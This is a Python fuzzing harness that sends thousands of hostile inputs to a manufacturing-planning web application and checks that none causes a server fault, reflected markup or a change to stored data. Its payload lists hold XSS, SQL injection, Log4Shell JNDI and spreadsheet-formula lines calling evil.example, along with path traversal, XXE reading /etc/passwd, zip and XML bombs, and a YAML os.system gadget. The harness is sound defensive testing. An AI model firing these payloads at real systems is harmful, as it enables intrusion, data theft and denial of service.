"""Hostile inputs through the whole application: none gets in that should not, none is answered with a fault of ours.

    python -m tests.bench.hostile --inputs 5000 --seed 1 --json out.json

Broken and bombed archives, workbooks and models, paths that lead out, texts with markup, queries, formulas, control
signs and broken surrogates in the text fields of the interface and of every form of the pages, numbers beyond all
bounds, forged cursors and tokens. The book stays as it was all the while, and no page shows markup as it was sent.
"""

from __future__ import annotations

import argparse
import io
import json
import random
import sys
import tempfile
import time
import zipfile
from collections import Counter
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any
from urllib.parse import quote

import structlog
from argon2 import PasswordHasher
from fastapi.testclient import TestClient

import scenarios
from router.asgi import from_settings
from router.bootstrap import Settings
from router.service.book import get_line, hold, release
from router.service.desk import Desk
from router.service.imports import preview_folder, store_import
from router.service.jobs import ask_plan, get_job
from router.service.kept_what_ifs import add_what_if
from router.service.people import new_token
from router.service.plans import accept
from router.service.records import Actor, Person, Role
from router.store import open_store
from router.worker import Worker
from tests.bench.hostile_pages import forms_of, read_page, send_form
from tests.bench.record import one_figure, write_record

V1 = "/api/v1"
MARK = "<script>alert('gets-in')</script>"
TEXTS = (
    MARK,
    "'; DROP TABLE lines; --",
    '=HYPERLINK("http://evil.example","x")',
    "{{ 7*7 }}",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "\x00nul",
    "\r\nSet-Cookie: a=b",
    "\u202egnp.exe",
    "\ud800",
    "A" * 100_000,
    "%s%s%n",
    "' OR '1'='1",
    "\x1b[31mred",
    "0x7fffffff",
    "NaN",
    "1e400",
    "-1",
    "9" * 400,
)
NUMBERS: tuple[Any, ...] = (-1, 0, 2**31, 2**63, 10**30, -(10**30), 1e308, True, None, "1", [], {})


def main(arguments: Sequence[str] | None = None) -> int:
    """Run the command; 0 when nothing got in and nothing broke."""
    parser = argparse.ArgumentParser(prog="python -m tests.bench.hostile", description=__doc__.split("\n")[0])
    parser.add_argument("--inputs", type=int, default=5000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--json", type=Path, metavar="OUT")
    options = parser.parse_args(arguments)
    structlog.configure(wrapper_class=structlog.make_filtering_bound_logger(50))
    with tempfile.TemporaryDirectory() as folder:
        began = time.monotonic()
        report = attack(Path(folder), options.inputs, options.seed)
        seconds = time.monotonic() - began
    print(f"{options.inputs} hostile inputs in {seconds:.0f} s: {dict(sorted(report['answers'].items()))}")
    for wrong in report["wrong"][:20]:
        print("WRONG", wrong)
    print(f"{len(report['wrong'])} wrong")
    if options.json:
        entry = one_figure(
            f"hostile inputs, seed {options.seed}", len(report["wrong"]), 0, seconds, answers=report["answers"]
        )
        write_record(options.json, [entry])
    return int(bool(report["wrong"]))


def attack(folder: Path, inputs: int, seed: int) -> dict[str, Any]:
    """Answers counted by status, and everything that went wrong. The small scenario is the book that is attacked."""
    desk, client = prey(folder)
    rng = random.Random(seed)
    forms = forms_of(client)

    def form(client: TestClient, rng: random.Random) -> Answer:
        return send_form(client, rng.choice(forms), TEXTS, rng)

    ways: tuple[Callable[[TestClient, random.Random], Answer], ...] = (
        _upload, _upload, _text_in_body, _text_in_body, _number_in_body, _address, _headers, _network, form, form, form,
    )  # fmt: skip
    before = _book(client)
    answers: Counter[str] = Counter()
    wrong: list[str] = []
    for n in range(inputs):
        way = rng.choice(ways)
        try:
            told, response, may_change = way(client, rng)
        except Exception as broken:  # the client itself refuses what no client could send
            answers[f"not sent ({type(broken).__name__})"] += 1
            continue
        answers[str(response.status_code)] += 1
        if response.status_code >= 500:
            wrong.append(f"{n} {way.__name__} {told[:160]}: {response.status_code} {response.text[:200]}")
        if MARK in response.text and "html" in response.headers.get("content-type", ""):
            wrong.append(f"{n} {way.__name__} {told[:160]}: markup on the page as it was sent")
        if may_change:
            before = _book(client)
        elif n % 50 == 0 and _book(client) != before:
            wrong.append(f"{n} {way.__name__} {told[:160]}: the book has changed")
            before = _book(client)
    if _book(client) != before:
        wrong.append("the book has changed at the end")
    wrong += _shown(desk, client)
    return {"answers": dict(answers), "wrong": wrong}


def prey(folder: Path) -> tuple[Desk, TestClient]:
    """The application, API and pages, over a book with a live plan; a client with a token that is signed in as well."""
    desk = Desk(open_store(f"sqlite:///{folder / 'a.db'}"), folder / "cache")
    password = "an invented password"
    hashed = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1).hash(password)
    with desk.store.begin() as work:
        boss = Actor(work.people.add(Person(0, "boss", Role.ADMINISTRATOR, cleared_codes=frozenset({"ITAR"})), hashed))
    preview = preview_folder(desk, boss, Path(scenarios.__file__).parent / "small")
    store_import(desk, boss, preview.import_id)
    job = ask_plan(desk, boss, seconds=1)
    Worker(desk).once()
    accept(desk, boss, int(get_job(desk, boss, job.job_id).result["plan_id"]), 1)
    add_what_if(desk, boss, "carbon.yaml", _WHAT_IF)
    _, text = new_token(desk, boss, "t", ["read", "book", "plan", "floor", "admin"], 5)
    headers = {"Authorization": f"Bearer {text}"}
    whole = from_settings(desk, Settings("", folder / "cache", worker=False))
    client = TestClient(whole, headers=headers, raise_server_exceptions=False, follow_redirects=False)
    _, [form] = read_page(client.get("/sign-in").text)
    signed = client.post("/sign-in", data={**form.fields, "name": "boss", "password": password})
    if signed.status_code != 303:
        raise RuntimeError(f"boss cannot sign in: {signed.status_code}")
    return desk, client


_WHAT_IF = b"format: platewright what-if 1\nname: Carbon\nchanges:\n  - {change: carbon_price, per_tonne: 90}\n"


def _book(client: TestClient) -> tuple[bytes, bytes]:
    return client.get(f"{V1}/export").content, client.get(f"{V1}/people").content


Answer = tuple[str, Any, bool]
"""What was sent in short, the response, whether the input was a sound one that may change the book."""


def _upload(client: TestClient, rng: random.Random) -> Answer:
    name, content = rng.choice(_FILES)(rng)
    response = client.post(f"{V1}/imports", files={"files": (name, content)})
    if response.status_code == 201 and response.json()["storable"]:
        # An order line with odd words in it may be sound; a broken or bombed file never is.
        told = response.json()
        if not name.endswith((".json", ".csv")) and (told["new_lines"] or told["network"] or told["new_models"]):
            response.status_code = 599
    return f"{name} {content[:60]!r}", response, False


def _zip_of(*entries: tuple[str, bytes], compress: bool = True) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return out.getvalue()


def _path_trick(rng: random.Random) -> tuple[str, bytes]:
    out = [
        "../network.yaml",
        "/etc/passwd",
        "models/../../x.stl",
        "C:\\x.stl",
        "models/a/b.stl",
        "..",
        "orders.csv/../x",
    ]
    return "a.zip", _zip_of((rng.choice(out), b"x"))


def _bomb(rng: random.Random) -> tuple[str, bytes]:
    zeros = bytes(rng.choice((10**6, 5 * 10**6)))
    name = rng.choice(("network.yaml", "orders.csv", "models/x.stl", "orders.xlsx"))
    inner = _zip_of((name, zeros))
    return rng.choice((("a.zip", inner), ("a.zip", _zip_of(("orders.xlsx", inner)))))


def _xml_bomb(rng: random.Random) -> tuple[str, bytes]:
    entities = "".join(f'<!ENTITY a{k} "&a{k - 1};&a{k - 1};&a{k - 1};&a{k - 1};">' for k in range(1, 12))
    xml = f'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a0 "ha">{entities}]><model>&a11;</model>'.encode()
    outside = b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY x SYSTEM "file:///etc/passwd">]><model>&x;</model>'
    text = rng.choice((xml, outside))
    if rng.random() < 0.5:
        return "part.3mf", _zip_of(("3D/3dmodel.model", text), ("[Content_Types].xml", text))
    return "orders.xlsx", _zip_of(
        ("xl/workbook.xml", text), ("[Content_Types].xml", text), ("xl/sharedStrings.xml", text)
    )


def _garbage(rng: random.Random) -> tuple[str, bytes]:
    ending = rng.choice(("csv", "xlsx", "json", "stl", "3mf", "yaml", "zip", "exe", ""))
    head = rng.choice((b"", b"PK\x03\x04", b"solid x", b"line,order\n", b"[{", b"\xff\xfe", b"a: &a [*a]\n"))
    return f"x.{ending}", head + rng.randbytes(rng.randrange(0, 4000))


def _odd_stl(rng: random.Random) -> tuple[str, bytes]:
    count = rng.choice((0, 9, 2**32 - 1, 10**6))
    return "odd.stl", bytes(80) + count.to_bytes(4, "little") + rng.randbytes(50 * rng.randrange(0, 4))


def _odd_orders(rng: random.Random) -> tuple[str, bytes]:
    row = {
        "line": "h-1",
        "order": "h",
        "customer": "x",
        "model": "ring.stl",
        "unit": "mm",
        "alloy": "316l",
        "quantity": "1",
        "ship_to": "Lyon",
        "ship_country": "FR",
        "received": "2027-02-20",
        "due": "2027-04-01",
    }
    row[rng.choice([name for name in row if name != "customer"])] = rng.choice(TEXTS)
    return "o.json", json.dumps([row]).encode("utf-8", "surrogatepass")


def _yaml(rng: random.Random) -> tuple[str, bytes]:
    deep = b"[" * 20_000
    laugh = b"a: &a [x,x,x,x,x,x,x,x]\n"
    for k in range(9):
        one, before = 98 + k, 97 + k
        laugh += b"%c: &%c [*%c,*%c,*%c]\n" % (one, one, before, before, before)
    python = b"!!python/object/apply:os.system ['true']"
    return "network.yaml", rng.choice((deep, laugh, python, rng.choice(TEXTS).encode("utf-8", "surrogatepass")))


_FILES: tuple[Callable[[random.Random], tuple[str, bytes]], ...] = (
    _path_trick, _bomb, _xml_bomb, _garbage, _garbage, _odd_stl, _odd_orders, _odd_orders, _yaml,
)  # fmt: skip


def _text_in_body(client: TestClient, rng: random.Random) -> Answer:
    text = rng.choice(TEXTS)
    line = "1001-1"
    seen = {"If-Match": f'"{rng.randrange(1, 4)}"'}
    bodies: tuple[tuple[str, str, dict[str, Any], dict[str, str]], ...] = (
        ("POST", f"{V1}/lines/{line}/hold", {"why": text if text.strip() else "x"}, {"If-Match": '"999"'}),
        ("PUT", f"{V1}/lines/{line}/pin", {"site_id": text}, seen),
        ("PATCH", f"{V1}/lines/{line}", {"cells": {rng.choice(("alloy", "due", text)): text}}, seen),
        ("POST", f"{V1}/events", {"kind": "machine down", "subject": text, "occurred_at": "2027-03-01T06:00Z"}, {}),
        ("POST", f"{V1}/events", {"kind": text, "subject": "M01", "occurred_at": text}, {}),
        ("POST", f"{V1}/people", {"name": text, "role": text}, {}),
        ("POST", f"{V1}/where", {"cells": {"line": text, "model": text, "alloy": text}}, {}),
        ("PATCH", f"{V1}/network", {"path": [text, "x"], "value": text}, {"If-Match": '"1"'}),
        ("POST", f"{V1}/runs", {"seconds": text, "note": text}, {}),
    )
    method, path, body, headers = rng.choice(bodies)
    content = json.dumps(body).encode("utf-8", "surrogatepass")
    response = client.request(method, path, content=content, headers={"Content-Type": "application/json", **headers})
    return f"{method} {path} {text[:40]!r}", response, False


def _number_in_body(client: TestClient, rng: random.Random) -> Answer:
    n = rng.choice(NUMBERS)
    bodies: tuple[tuple[str, dict[str, Any]], ...] = (
        (f"{V1}/runs", {"seconds": n, "seed": rng.choice((-1, 2**40, "x")), "workers": n}),
        (f"{V1}/where", {"cells": {"quantity": "x"}, "quantities": [n]}),
        (f"{V1}/lines/1001-1/elsewhere", {"seconds": rng.choice((-1, 0, 10**9, "x"))}),
        (
            f"{V1}/plans/{rng.choice((0, -1, 2**40, 'x'))}/moves/try",
            {"build_id": "x", "machine_id": "x", "after_build_id": n},
        ),
    )
    path, body = rng.choice(bodies)
    return f"{path} {body}", client.post(path, json=body), False


def _address(client: TestClient, rng: random.Random) -> Answer:
    text = quote(rng.choice(TEXTS).encode("utf-8", "surrogatepass")[:2000], safe=rng.choice(("", "/.")))
    paths = (
        f"{V1}/lines/{text}", f"{V1}/lines?text={text}", f"{V1}/lines?after={text}", f"{V1}/lines?sort={text}",
        f"{V1}/models/{text}", f"{V1}/runs/{text}", f"{V1}/plans/{text}", f"{V1}/trail?subject={text}",
        f"{V1}/calendar.ics?site={text}", f"{V1}/imports/{text}/store", f"/static/{text}", f"/{text}",
        f"{V1}/plans/1/builds/{text}/plate?kind=3mf", f"{V1}/network/editions/{text}",
    )  # fmt: skip
    path = rng.choice(paths)
    return path[:120], client.get(path), False


def _headers(client: TestClient, rng: random.Random) -> Answer:
    text = rng.choice([t for t in TEXTS if t.isascii() and t.isprintable()])[:6000]
    name = rng.choice(
        ("Authorization", "If-Match", "Idempotency-Key", "Cookie", "X-CSRF-Token", "Content-Type", "Accept")
    )
    value = f"Bearer {text}" if name == "Authorization" else text
    response = client.post(f"{V1}/lines/1001-1/release", headers={name: value})
    return f"{name}: {value[:60]}", response, False


def _network(client: TestClient, rng: random.Random) -> Answer:
    _, raw = _yaml(rng)
    headers = {"If-Match": '"1"', "Content-Type": rng.choice(("application/yaml", "text/html", "application/json"))}
    return repr(raw[:60]), client.put(f"{V1}/network", content=raw, headers=headers), False


def _shown(desk: Desk, client: TestClient) -> list[str]:
    """Put markup where free text is kept, read it back where it is shown."""
    with desk.store.look() as work:
        found = work.people.named("boss")
    assert found is not None
    boss = Actor(found[0])
    line = get_line(desk, boss, "1001-1")
    held = hold(desk, boss, "1001-1", MARK, line.version)
    answer = client.get(f"{V1}/lines/1001-1")
    wrong = [] if answer.json()["why_held"] == MARK else ["text was changed on its way"]
    if answer.headers["x-content-type-options"] != "nosniff" or "json" not in answer.headers["content-type"]:
        wrong.append("an answer that a browser could take for a page")
    release(desk, boss, "1001-1", held.version)
    return wrong


if __name__ == "__main__":
    sys.exit(main())
